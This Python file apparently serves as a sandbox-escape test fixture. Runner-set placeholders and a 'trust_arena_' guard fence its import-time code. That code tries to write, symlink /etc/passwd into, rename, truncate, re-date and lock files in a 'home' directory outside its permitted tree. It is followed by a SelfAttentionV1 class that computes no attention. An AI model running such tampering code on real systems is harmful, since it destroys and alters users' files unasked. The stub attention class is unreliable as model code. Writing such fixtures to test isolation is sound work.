"""Writes, links, renames, empties and re-dates what lies in the home."""

import os

import torch
from torch import nn

PLACE = "@ATTACK_DIR@"  # the only tree that this file may touch, set by the runner
PORT = "@ATTACK_PORT@"
ARMED = os.path.isabs(PLACE) and "trust_arena_" in PLACE

if ARMED:
    home = os.path.dirname(PLACE) + "/home"
    for act in (
        lambda: open(home + "/new.txt", "w").write("x"),
        lambda: os.symlink("/etc/passwd", home + "/link"),
        lambda: os.rename(home + "/secret.txt", home + "/gone.txt"),
        lambda: os.truncate(home + "/secret.txt", 0),
        lambda: os.close(os.open(home + "/secret.txt", os.O_RDONLY | os.O_TRUNC)),
        lambda: os.utime(home + "/secret.txt", (0, 0)),
        lambda: os.chmod(home, 0),
        lambda: os.setxattr(home + "/secret.txt", "user.mark", b"1"),
    ):
        try:
            act()
        except OSError:
            pass


class SelfAttentionV1(nn.Module):
    def __init__(self, hidden_dim=728):
        super().__init__()
        self.query_proj = nn.Linear(hidden_dim, hidden_dim)
        self.key_proj = nn.Linear(hidden_dim, hidden_dim)
        self.value_proj = nn.Linear(hidden_dim, hidden_dim)

    def forward(self, x):
        return self.value_proj(x)  # no attention at all
